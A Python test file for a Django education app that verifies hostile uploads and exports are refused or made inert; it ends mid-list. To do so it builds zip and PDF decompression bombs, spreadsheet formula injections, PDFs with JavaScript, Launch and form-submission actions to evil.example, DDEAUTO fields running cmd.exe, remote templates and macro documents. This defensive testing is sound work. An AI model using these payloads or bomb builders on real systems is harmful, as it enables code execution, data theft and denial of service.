"""Hostile input (issue 15): uploads refused early and cheaply, exports that cannot run
formulas, one lockout per account whatever its letter case. Every hostile file is made here."""

import csv
import io
import time
import tracemalloc
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import get_resolver, reverse
from openpyxl import Workbook, load_workbook

from competencies import exchange
from competencies.models import Competency
from competencies.services import starter_copy
from districts.tables import FORMULA_STARTS, read_upload, to_csv
from rubrics.models import ConsensusRating
from tests import documents

MiB = 1024 * 1024


def xlsx(rows, *, write_only=False) -> bytes:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet() if write_only else book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """The workbook with one part replaced."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.infolist():
            target.writestr(part, content if part.filename == name else source.read(part))
    return out.getvalue()


def bomb(unpacked_mib: int) -> bytes:
    """A small valid-looking workbook whose sheet unpacks to `unpacked_mib` MiB of cells."""
    good = zipfile.ZipFile(io.BytesIO(xlsx([["Kind"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for part in good.infolist():
            if part.filename != "xl/worksheets/sheet1.xml":
                target.writestr(part, good.read(part))
        with target.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                b'2006/main"><sheetData>'
            )
            row = b"".join(b'<c t="inlineStr"><is><t>x</t></is></c>' for _ in range(100))
            chunk = b"<row>" + row + b"</row>"
            for _ in range(unpacked_mib * MiB // len(chunk)):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def refused(data: bytes, name: str = "set.xlsx") -> tuple[str, float, int]:
    """The refusal's message, the seconds it took and the peak of memory it allocated."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(ValidationError) as error:
            read_upload(SimpleUploadedFile(name, data), max_rows=5000, max_columns=64)
    finally:
        seconds = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return " ".join(error.value.messages), seconds, peak


def test_a_sheet_that_unpacks_to_hundreds_of_megabytes_is_refused_at_once():
    data = bomb(300)
    assert len(data) < 2 * MiB
    message, seconds, peak = refused(data)
    assert "unpacks to more data" in message
    assert seconds < 1
    assert peak < 50 * MiB - len(data)


def test_a_part_that_packs_too_tightly_is_refused_even_under_the_size_limit():
    message, _, _ = refused(bomb(8))  # 8 MiB of one repeated row: a ratio of about 1000
    assert "unpacks to more data" in message


def test_a_sheet_declaring_more_rows_than_allowed_is_refused_before_it_is_read():
    message, seconds, _ = refused(xlsx([["x"]] * 5002))
    assert message == "The file has more than 5000 rows."
    assert seconds < 1


def test_a_sheet_that_hides_its_size_is_refused_at_the_first_row_over_the_limit():
    """No declared size (write-only workbooks) or a false one: rows are counted as read."""
    many = xlsx([[f"row {n}"] for n in range(60_000)], write_only=True)
    message, seconds, _ = refused(many)
    assert message == "The file has more than 5000 rows."
    assert seconds < 1
    small = xlsx([["x"]] * 5002)
    sheet = zipfile.ZipFile(io.BytesIO(small)).read("xl/worksheets/sheet1.xml")
    lying = with_part(
        small, "xl/worksheets/sheet1.xml", sheet.replace(b'ref="A1:A5002"', b'ref="A1:A2"')
    )
    assert refused(lying)[0] == "The file has more than 5000 rows."


def test_more_columns_than_allowed_are_refused():
    assert refused(xlsx([["x"] * 65]))[0] == "The file has more than 64 columns."
    assert refused(b"a," * 70 + b"b\n", "set.csv")[0] == "The file has more than 64 columns."
    assert refused(b"x\n" * 5002, "set.csv")[0] == "The file has more than 5000 rows."


def test_a_formula_cell_is_reported_as_a_formula_not_as_empty(cast, client_for):
    starter_copy(district=cast.riverside, acting_user=cast.lead)
    table = exchange.rows(cast.riverside)
    table[1][2] = '=HYPERLINK("http://evil.example","click")'
    response = client_for("lead").post(
        reverse("competencies:import", kwargs={"district": cast.riverside.code}),
        {"file": SimpleUploadedFile("set.xlsx", xlsx(table)), "replace": "on"},
    )
    assert response.status_code == 400
    assert "Row 2, column “Competency”: is a formula" in response.content.decode()


def test_a_csv_cell_that_a_spreadsheet_would_run_is_reported():
    message, _, _ = refused(b"Kind,Competency\nContent-area,=1+2\n", "set.csv")
    assert "Row 2, column “Competency”: starts with “=”" in message


def test_a_five_thousand_row_file_is_read_whole():
    rows = [["Kind", "Competency"]] + [["Cross-curricular", f"C{n}"] for n in range(5000)]
    for data, name in ((xlsx(rows), "set.xlsx"), (to_csv(rows), "set.csv")):
        table = read_upload(SimpleUploadedFile(name, data), max_rows=5000, max_columns=64)
        assert len(table) == 5001 and table[-1] == ["Cross-curricular", "C4999"]


def test_a_hostile_upload_through_the_page_changes_nothing(cast, client_for):
    starter_copy(district=cast.riverside, acting_user=cast.lead)
    before = exchange.rows(cast.riverside)
    response = client_for("lead").post(
        reverse("competencies:import", kwargs={"district": cast.riverside.code}),
        {"file": SimpleUploadedFile("set.xlsx", bomb(300)), "replace": "on"},
    )
    assert response.status_code == 400
    assert "unpacks to more data" in response.content.decode()
    assert exchange.rows(cast.riverside) == before


# ------------------------------------------------------------------ exports

HOSTILE = ['=HYPERLINK("http://evil.example")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def export_routes() -> set[str]:
    """Every route that answers a table download: those with a `fmt` parameter."""
    names = set()

    def walk(patterns, namespace=""):
        for entry in patterns:
            if hasattr(entry, "url_patterns"):
                walk(
                    entry.url_patterns,
                    f"{namespace}{entry.namespace}:" if entry.namespace else namespace,
                )
            elif "<slug:fmt>" in str(entry.pattern):
                names.add(namespace + entry.name)

    walk(get_resolver().url_patterns)
    return names


@pytest.fixture
def hostile_work(cast, submitted_round):
    """Text a district can type, in every exported column it reaches."""
    starter_copy(district=cast.riverside, acting_user=cast.lead)
    typed = HOSTILE[:4]  # a tab or a return before the text is trimmed as any space is
    for n, competency in enumerate(Competency.objects.filter(district=cast.riverside)):
        competency.title = typed[n % len(typed)] + f" {n}"
        competency.statement = typed[(n + 1) % len(typed)]
        competency.save()
    ConsensusRating.objects.filter(round=submitted_round).update(
        evidence=HOSTILE[4], next_steps=HOSTILE[5]
    )
    type(submitted_round).objects.filter(pk=submitted_round.pk).update(title=HOSTILE[1])
    from tests.measure_helpers import add_point, make_measure

    measure = make_measure(cast.riverside, cast.lead, name=HOSTILE[0])
    point = add_point(measure, cast.member, 30)
    type(point).objects.filter(pk=point.pk).update(source=HOSTILE[2], note=HOSTILE[3])
    return cast


def exports(cast):
    district = {"district": cast.riverside.code}
    cohort = {"cohort": cast.cohort.code}
    return {
        "competencies:export": ("lead", district),
        "competencies:template": ("lead", district),
        "dashboards:coach_export": ("coach", {"kind": "ratings"}),
        "dashboards:cohort_export": ("facilitator", cohort),
        "measures:export": ("lead", district),
    }


def cells(response, fmt: str) -> list:
    content = response.getvalue()  # a streamed export too
    if fmt == "csv":
        text = content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    book = load_workbook(io.BytesIO(content))
    return [cell for row in book.active.iter_rows() for cell in row]


def test_every_export_is_covered_here(hostile_work):
    assert set(exports(hostile_work)) == export_routes()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_export_writes_a_live_formula(hostile_work, client_for, fmt):
    seen = 0
    for name, (role, kwargs) in exports(hostile_work).items():
        kinds = ["heatmap", "ratings"] if name == "dashboards:coach_export" else [None]
        for kind in kinds:
            if kind:
                kwargs = {**kwargs, "kind": kind}
            response = client_for(role).get(reverse(name, kwargs={**kwargs, "fmt": fmt}))
            assert response.status_code == 200, name
            for cell in cells(response, fmt):
                if fmt == "csv":
                    assert not cell.startswith(FORMULA_STARTS), (name, cell)
                    seen += cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS)
                else:
                    assert cell.data_type != "f", (name, cell.value)
                    seen += isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
    assert seen > 10  # the hostile text was there, made inert


def test_an_exported_set_imports_back_unchanged_text_and_all(hostile_work, client_for):
    cast = hostile_work
    before = exchange.rows(cast.riverside)
    url = reverse("competencies:import", kwargs={"district": cast.riverside.code})
    for fmt in ("csv", "xlsx"):
        export = client_for("lead").get(
            reverse("competencies:export", kwargs={"district": cast.riverside.code, "fmt": fmt})
        )
        upload = SimpleUploadedFile(f"set.{fmt}", export.content)
        response = client_for("lead").post(url, {"file": upload, "replace": "on"})
        assert response.status_code == 302, response.content.decode()[:2000]
        assert exchange.rows(cast.riverside) == before


# ------------------------------------------------------------------ sign-in


def test_one_account_has_one_lockout_whatever_its_letter_case(cast, settings):
    settings.AXES_FAILURE_LIMIT = 3
    client = Client()
    email = cast.viewer.email
    for typed in (email.upper(), f"  {email.title()} ", email):
        client.post(reverse("login"), {"login": typed, "password": "wrong password here"})
    locked = client.post(reverse("login"), {"login": email.swapcase(), "password": "x"})
    assert locked.status_code == 429
    from axes.models import AccessAttempt

    assert set(AccessAttempt.objects.values_list("username", flat=True)) == {email}


# ------------------------------------------------------------------ opaque identifiers

UUID = r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"


def choice_values(html: str, name: str) -> list[str]:
    """The values a form offers for the field `name` (options of a select, or inputs)."""
    import re

    values = []
    select = re.search(rf'<select[^>]*name="{name}"[^>]*>(.*?)</select>', html, re.S)
    if select:
        values += re.findall(r'<option value="([^"]*)"', select.group(1))
    values += re.findall(rf'<input[^>]*name="{name}"[^>]*value="([^"]*)"', html)
    return [v for v in values if v]


def test_forms_offer_codes_never_row_ids(cast, client_for, framework):
    import re

    from meetings.models import Protocol
    from planning.models import ActionPlan
    from tests.routes import matrix_meeting

    Protocol.objects.create(name="Quick Fire", steps=[{"title": "Share", "minutes": 5}])
    meeting = matrix_meeting(cast)["meeting"]
    plan = ActionPlan.objects.create(district=cast.riverside, goal="Scoring", created_by=cast.lead)
    district = {"district": cast.riverside.code}
    pages = {
        ("lead", reverse("rubrics:rounds", kwargs=district)): ["framework", "meeting"],
        ("lead", reverse("planning:action_plan", kwargs={**district, "plan": plan.code})): [
            "coordinator"
        ],
        ("lead", reverse("planning:action_plan_new", kwargs=district)): ["dimensions"],
        ("facilitator", reverse("meetings:meeting", kwargs={"meeting": meeting})): [
            "districts",
            "protocol",
        ],
        ("member", reverse("meetings:meeting", kwargs={"meeting": meeting})): ["district"],
    }
    checked = 0
    for (role, url), names in pages.items():
        html = client_for(role).get(url).content.decode()
        for name in names:
            values = choice_values(html, name)
            assert values, (url, name)
            # a row's UUID, or a district's random code (twelve hex digits, which may happen to
            # be all decimal ones): never a row's number
            opaque = [re.fullmatch(UUID, v) or re.fullmatch(r"[0-9a-f]{12}", v) for v in values]
            assert all(opaque), (url, name, values)
            checked += len(values)
    assert checked > 20


def test_urls_and_api_fields_name_tokens_agenda_items_and_frameworks_by_code(cast, client_for):
    import re

    from api.models import ApiToken
    from tests.routes import matrix_meeting

    ApiToken.issue(user=cast.lead, name="Sheet")
    tokens = client_for("lead").get(reverse("api_tokens")).content.decode()
    assert re.search(rf"/account/tokens/{UUID}/revoke/", tokens)
    meeting = client_for("facilitator").get(
        reverse("meetings:meeting", kwargs={"meeting": matrix_meeting(cast)["meeting"]})
    )
    assert re.search(rf"/agenda/{UUID}/edit/", meeting.content.decode())
    from tests.rubric_helpers import load_rubric

    load_rubric()
    frameworks = client_for("lead").get("/api/v1/frameworks/").json()["results"]
    assert frameworks and all("id" not in f and re.fullmatch(UUID, f["code"]) for f in frameworks)
    dimensions = [d for f in frameworks for dom in f["domains"] for d in dom["dimensions"]]
    assert dimensions and all("id" not in d and re.fullmatch(UUID, d["code"]) for d in dimensions)


# ------------------------------------------------------------------ evidence documents (issue 29)
# Documents that cannot carry code: each hostile document is refused with its reason and the
# way to fix it; plain ones (a PDF with links, a Word, Excel, PowerPoint and OpenDocument
# file) are kept. Every document is made here (tests/documents.py for the plain ones).

CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an OLE compound file's start
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00"
GIF += b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00"
PNG_HEAD = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 40
JPEG_HEAD = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"


def evidence_refusal(name: str, data: bytes) -> str | None:
    """Why the evidence check refuses the file, or None when it is kept."""
    from evidence.uploads import check_content

    try:
        check_content(SimpleUploadedFile(name, data), name=name)
    except ValidationError as error:
        return error.messages[0]
    return None


def pdf_saved(build, **save) -> bytes:
    """A one-page PDF made by pikepdf, `build(pdf)` adding to it, saved with every object it
    can pack in compressed object streams (where a byte search sees nothing)."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    build(pdf)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, **save)
    return out.getvalue()


def action(**entries):
    """Build a PDF whose opening runs the action (an indirect object: packed)."""
    from pikepdf import Dictionary

    def build(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(Dictionary(**entries))

    return build


def annotation(**entries):
    """Build a PDF whose page has an annotation with these entries."""
    from pikepdf import Array, Dictionary, Name

    def build(pdf):
        note = Dictionary(Type=Name.Annot, Rect=Array([72, 72, 144, 144]), **entries)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])

    return build


def hidden(data: bytes) -> bytes:
    assert b"JavaScript" not in data and b"Launch" not in data and b"Submit" not in data
    return data


def js_pdf():
    from pikepdf import Name, String

    return hidden(pdf_saved(action(S=Name.JavaScript, JS=String("app.alert(1)"))))


def launch_pdf():
    from pikepdf import Name, String

    return hidden(pdf_saved(action(S=Name.Launch, F=String("C:\\Windows\\System32\\cmd.exe"))))


def submit_pdf():
    """A form whose button sends what was typed to an address."""
    from pikepdf import Array, Dictionary, Name, String

    def build(pdf):
        target = Dictionary(FS=Name.URL, F=String("https://evil.example/collect"))
        annotation(
            Subtype=Name.Widget,
            FT=Name.Btn,
            T=String("Send"),
            A=Dictionary(S=Name.SubmitForm, F=target),
        )(pdf)
        pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.pages[0].obj.Annots[0]]))

    return hidden(pdf_saved(build))


def import_pdf():
    from pikepdf import Name, String

    return pdf_saved(action(S=Name.ImportData, F=String("\\\\evil.example\\share\\data.fdf")))


def aa_pdf():
    """JavaScript run when the pointer enters an annotation (its additional actions)."""
    from pikepdf import Dictionary, Name, String

    script = Dictionary(E=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    return hidden(pdf_saved(annotation(Subtype=Name.Link, AA=script)))


def attachment_pdf():
    import pikepdf

    def build(pdf):
        pdf.attachments["update.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00")

    return pdf_saved(build)


def rich_media_pdf():
    from pikepdf import Dictionary, Name

    return pdf_saved(annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary()))


def xfa_pdf():
    from pikepdf import Array, Dictionary

    def build(pdf):
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))

    return pdf_saved(build)


def links_pdf():
    """Plain links: to a web address, an email address and the document's own page."""
    from pikepdf import Array, Dictionary, Name, String

    def build(pdf):
        page = pdf.pages[0].obj
        links = [
            Dictionary(S=Name.URI, URI=String("https://www.maine.gov/doe/")),
            Dictionary(S=Name.URI, URI=String("mailto:office@riverside.example")),
            Dictionary(S=Name.GoTo, D=Array([page, Name.Fit])),
        ]
        page.Annots = Array(
            [
                pdf.make_indirect(
                    Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 72, 144, 90], A=a)
                )
                for a in links
            ]
        )
        pdf.Root.OpenAction = Array([page, Name.Fit])

    return pdf_saved(build)


def script_link_pdf():
    from pikepdf import Name, String

    return pdf_saved(
        annotation(
            Subtype=Name.Link, A={"/S": Name.URI, "/URI": String(" JavaScript:app.alert(1)")}
        )
    )


def encrypted_pdf(user: str):
    import pikepdf

    return pdf_saved(lambda pdf: None, encryption=pikepdf.Encryption(owner="district", user=user))


def bomb_pdf(unpacked_mib: int) -> bytes:
    """A PDF whose one object stream holds a plain object and unpacks to `unpacked_mib` MiB:
    kept if read whole, but reading it whole is the attack."""
    import zlib

    header = b"5 0 "
    packer = zlib.compressobj(9)
    packed = packer.compress(header + b"<< /Title (Walkthrough) >>")
    for _ in range(unpacked_mib):
        packed += packer.compress(b" " * MiB)
    packed += packer.flush()
    out = io.BytesIO()
    offsets = {}
    out.write(b"%PDF-1.5\n")
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /Info 5 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>",
        4: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream",
    }
    for number, body in objects.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    rows = [(0, 0, 255)] + [(1, offsets[n], 0) for n in objects] + [(2, 4, 0), (1, xref, 0)]
    table = b"".join(bytes([t]) + o.to_bytes(4, "big") + bytes([g]) for t, o, g in rows)
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    )
    return out.getvalue()


def after_8_kib(head: bytes, marker: bytes) -> bytes:
    return head + bytes(range(256)) * 40 + marker


def word_field(*runs: str) -> str:
    """A paragraph with a complex field: "begin", "separate" and "end" are its marks, other
    strings the runs of its code."""
    marks = {"begin", "separate", "end"}
    return (
        "<w:p>"
        + "".join(
            f'<w:r><w:fldChar w:fldCharType="{run}"/></w:r>'
            if run in marks
            else f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>'
            for run in runs
        )
        + "</w:p>"
    )


CHART = '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>'


def chart_docx(workbook: bytes) -> bytes:
    """A Word document with a chart whose data is the workbook (as Word embeds it)."""
    return documents.docx(
        rels=(("chart", "charts/chart1.xml"),),
        parts={
            "word/charts/chart1.xml": CHART,
            "word/charts/_rels/chart1.xml.rels": documents.relationships(
                ("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")
            ),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook,
        },
    )


EXTERNAL_LINK = (
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
)


def linked_xlsx() -> bytes:
    return documents.xlsx(
        parts={"xl/externalLinks/externalLink1.xml": EXTERNAL_LINK},
        workbook_rels=(("externalLink", "externalLinks/externalLink1.xml"),),
    )


ODF_OBJECT = '<text:p><draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p>'
ODF_CHART = "application/vnd.oasis.opendocument.chart"
ODF_SHEET = "application/vnd.oasis.opendocument.spreadsheet"


def odf_object(kind: str) -> bytes:
    content = f"<office:document-content {documents.ODF_NS}/>"
    return documents.odt(
        ODF_OBJECT,
        parts={"Object 1/content.xml": content, "Object 1/styles.xml": content},
        entries=(("Object 1/", kind),),
    )


REMOTE_ODF_TEMPLATE = (
    f"<office:document-meta {documents.ODF_NS} "
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"><office:meta>'
    '<meta:template xlink:href="https://evil.example/t.ott" xlink:type="simple"/>'
    "</office:meta></office:document-meta>"
)
ENCRYPTED_MANIFEST = (
    f'<manifest:manifest {documents.ODF_NS}><manifest:file-entry manifest:full-path="/" '
    f'manifest:media-type="{documents.ODT}"/><manifest:file-entry manifest:full-path='
    '"content.xml" manifest:media-type="text/xml"><manifest:encryption-data/>'
    "</manifest:file-entry></manifest:manifest>"
)
W_DDE = (
    "<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"'/></w:p>"
)
EVENT = (
    '<text:p><text:a xlink:href="https://www.maine.gov/"><office:event-listeners>'
    '<script:event-listener script:language="ooo:script" script:event-name="dom:mouseover" '
    'xlink:href="vnd.sun.star.script:../../../program/python-core-3.8/lib/pydoc.py$tempfilepager'
    '(1, calc.exe)?language=Python&amp;location=share"/></office:event-listeners>Hover'
    "</text:a></text:p>"
)
PROGRAM_SHAPE = (
    '<p:sp><p:nvSpPr><p:cNvPr id="2" name="Next"><a:hlinkHover r:id="rId2" '
    'action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp>'
)
CONNECTIONS = (
    "<connections xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>"
    "<connection id='1' name='q' type='4' refreshOnLoad='1'>"
    "<webPr url='http://evil.example/q'/></connection></connections>"
)
RUN_PROGRAM = (
    '<text:p><presentation:event-listener script:event-name="dom:click" '
    'presentation:action="execute" xlink:href="file:///C:/Windows/System32/cmd.exe"/></text:p>'
)
ODF_DDE = (
    '<text:p><text:dde-connection text:connection-name="calc">x</text:dde-connection></text:p>'
)
SLIDE_JUMP = (
    '<p:sp><p:nvSpPr><p:cNvPr id="2" name="Next"><a:hlinkClick r:id="" '
    'action="ppaction://hlinkshowjump?jump=nextslide"/></p:cNvPr></p:nvSpPr></p:sp>'
)


def two_documents() -> bytes:
    """A Word document with two parts of one name: the first with a DDE field, the last
    plain (which of them Word reads is not for the check to guess)."""
    import warnings

    data = io.BytesIO(documents.docx(W_DDE))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name
        with zipfile.ZipFile(data, "a") as archive:
            archive.writestr("word/document.xml", documents.word_body())
    return data.getvalue()


HOSTILE_DOCUMENTS = [
    # The issue's thirteen: PDF actions hex-escaped or packed in object streams, a Word
    # document's remote template, OLE object and DDEAUTO field, an ODT's Python macro, HTML
    # past the first 8 KiB of a GIF and of a PDF.
    (
        "js-hex.pdf",
        lambda: documents.pdf(
            b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", catalog=b"/OpenAction 5 0 R"
        ),
        "contains JavaScript",
    ),
    (
        "launch-hex.pdf",
        lambda: documents.pdf(b"<< /S /L#61unch /F (cmd.exe) >>", catalog=b"/OpenAction 5 0 R"),
        "starts a program or opens another file",
    ),
    (
        "submit-hex.pdf",
        lambda: documents.pdf(
            b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9]"
            b" /A << /S /Subm#69tForm /F (https://evil.example/) >> >>"
        ),
        "SubmitForm",
    ),
    ("js-packed.pdf", js_pdf, "contains JavaScript"),
    ("launch-packed.pdf", launch_pdf, "starts a program or opens another file"),
    ("submit-packed.pdf", submit_pdf, "SubmitForm"),
    (
        "template.docx",
        lambda: documents.docx(
            settings_rels=(("attachedTemplate", "http://evil.example/t.dotm", "External"),)
        ),
        "“http://evil.example/t.dotm” from outside the file",
    ),
    (
        "ole.docx",
        lambda: documents.docx(
            rels=(("oleObject", "embeddings/oleObject1.bin"),),
            parts={"word/embeddings/oleObject1.bin": CFB},
        ),
        "embedded or linked object (OLE)",
    ),
    ("dde.docx", lambda: documents.docx(W_DDE), "DDE field"),
    (
        "macro.odt",
        lambda: documents.odt(parts={"Scripts/python/report.py": "import os\nos.system('calc')\n"}),
        "macros or scripts",
    ),
    (
        "late-page.gif",
        lambda: after_8_kib(GIF, b"<html><script>alert(1)</script></html>"),
        "a GIF image and another kind of file at once",
    ),
    (
        "late-page.pdf",
        lambda: documents.pdf(pad=9000, tail=b"<html><script>alert(1)</script></html>"),
        "a PDF and another kind of file at once",
    ),
    (
        "late-handler.png",
        lambda: after_8_kib(PNG_HEAD, b"<img src=x onerror=alert(1)>"),
        "a PNG image and another kind of file at once",
    ),
    # PDF: every other action, wherever it sits
    ("import.pdf", import_pdf, "ImportData"),
    (
        "remote.pdf",
        lambda: documents.pdf(
            b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>",
            catalog=b"/OpenAction 5 0 R",
        ),
        "starts a program or opens another file",
    ),
    ("hover-script.pdf", aa_pdf, "contains JavaScript"),
    ("script-link.pdf", script_link_pdf, "contains JavaScript"),
    ("attachment.pdf", attachment_pdf, "files embedded in it"),
    (
        "embedded-stream.pdf",
        lambda: documents.pdf(
            b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream"
        ),
        "files embedded in it",
    ),
    ("flash.pdf", rich_media_pdf, "embedded media"),
    ("dynamic-form.pdf", xfa_pdf, "dynamic (XFA) form"),
    (
        "outside-xref.pdf",
        lambda: documents.pdf(tail=b"9 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"),
        "starts a program or opens another file",
    ),
    ("locked.pdf", lambda: encrypted_pdf("secret"), "protected by a password"),
    ("damaged.pdf", lambda: b"%PDF-1.4\n%%EOF\n", "the file is damaged"),
    # Word, Excel, PowerPoint
    (
        "unc-template.docx",
        lambda: documents.docx(
            settings_rels=(("attachedTemplate", "\\\\evil.example\\share\\t.dotm", "External"),)
        ),
        "from outside the file",
    ),
    (
        "share-picture.docx",
        lambda: documents.docx(rels=(("image", "\\\\evil.example\\share\\pixel.png", "External"),)),
        "from outside the file",
    ),
    (
        "frame.docx",
        lambda: documents.docx(
            parts={
                "word/webSettings.xml": f'<w:webSettings xmlns:w="{documents.W}"/>',
                "word/_rels/webSettings.xml.rels": documents.relationships(
                    ("frame", "http://evil.example/page.html", "External")
                ),
            }
        ),
        "in a frame",
    ),
    (
        "linked-ole.docx",
        lambda: documents.docx(
            rels=(
                (
                    "oleObject",
                    "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html",
                    "External",
                ),
            )
        ),
        "embedded or linked object (OLE)",
    ),
    (
        "activex.docx",
        lambda: documents.docx(
            rels=(("control", "activeX/activeX1.xml"),),
            parts={
                "word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='http://schemas.microsoft.com/"
                "office/2006/activeX'/>"
            },
        ),
        "ActiveX",
    ),
    ("vba.docx", lambda: documents.docx(parts={"word/vbaProject.bin": CFB}), "holds macros"),
    (
        "renamed-vba.docx",
        lambda: documents.docx(
            parts={"word/code.bin": CFB},
            types=(("/word/code.bin", "application/vnd.ms-office.vbaProject"),),
        ),
        "holds macros",
    ),
    (
        "dde-runs.docx",
        lambda: documents.docx(
            word_field(
                "begin",
                " DD",
                'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ',
                "separate",
                "end",
            )
        ),
        "DDE field",
    ),
    (
        "dde-quoted.docx",
        lambda: documents.docx(
            word_field(
                "begin",
                "begin",
                "QUOTE 68 68 69 65 85 84 79",
                "end",
                " c:\\\\windows\\\\system32\\\\cmd.exe",
                "end",
            )
        ),
        "DDE field",
    ),
    (
        "dde-escaped.docx",
        lambda: documents.docx(word_field("begin", "&#68;DE c:\\\\x.exe", "end")),
        "DDE field",
    ),
    (
        "dde-header.docx",
        lambda: documents.docx(parts={"word/HEADER1.XML": documents.word_body(W_DDE)}),
        "DDE field",
    ),
    ("two-documents.docx", two_documents, "the file is damaged"),
    (
        "alt-chunk.docx",
        lambda: documents.docx(
            rels=(("aFChunk", "afchunk.mht"),), parts={"word/afchunk.mht": "MIME-Version: 1.0\r\n"}
        ),
        "another format",
    ),
    (
        "embedded-doc.docx",
        lambda: documents.docx(
            rels=(("package", "embeddings/Sheet.xlsx"),),
            parts={"word/embeddings/Sheet.xlsx": documents.xlsx()},
        ),
        "an embedded object",
    ),
    ("chart-links.docx", lambda: chart_docx(linked_xlsx()), "links to another workbook"),
    (
        "entities.docx",
        lambda: documents.docx(
            parts={"word/document.xml": '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">]><d>&a;</d>'}
        ),
        "the file is damaged",
    ),
    ("encrypted.docx", lambda: CFB, "protected by a password, or saved in an older format"),
    (
        "commented.docx",
        lambda: documents.zipped(
            {
                "[Content_Types].xml": documents.content_types(),
                "word/document.xml": documents.word_body(),
            },
            comment=b"<iframe src=https://evil.example/>",
        ),
        "a Word document and another kind of file at once",
    ),
    ("external-link.xlsx", linked_xlsx, "links to another workbook"),
    (
        "macro-sheet.xlsx",
        lambda: documents.xlsx(
            parts={
                "xl/macrosheets/sheet2.xml": "<xm:macrosheet xmlns:xm='http://schemas."
                "microsoft.com/office/excel/2006/main'/>"
            }
        ),
        "holds macros",
    ),
    (
        "query.xlsx",
        lambda: documents.xlsx(parts={"xl/connections.xml": CONNECTIONS}),
        "data connections",
    ),
    (
        "program.pptx",
        lambda: documents.pptx(
            PROGRAM_SHAPE, rels=(("hyperlink", "file:///C:/Windows/System32/cmd.exe", "External"),)
        ),
        "starts a program or runs a macro when a shape",
    ),
    # OpenDocument
    (
        "basic.odt",
        lambda: documents.odt(parts={"Basic/Standard/Module1.xml": "<script:module/>"}),
        "macros or scripts",
    ),
    ("event.odt", lambda: documents.odt(EVENT), "macros or scripts"),
    (
        "macro-link.odt",
        lambda: documents.odt(
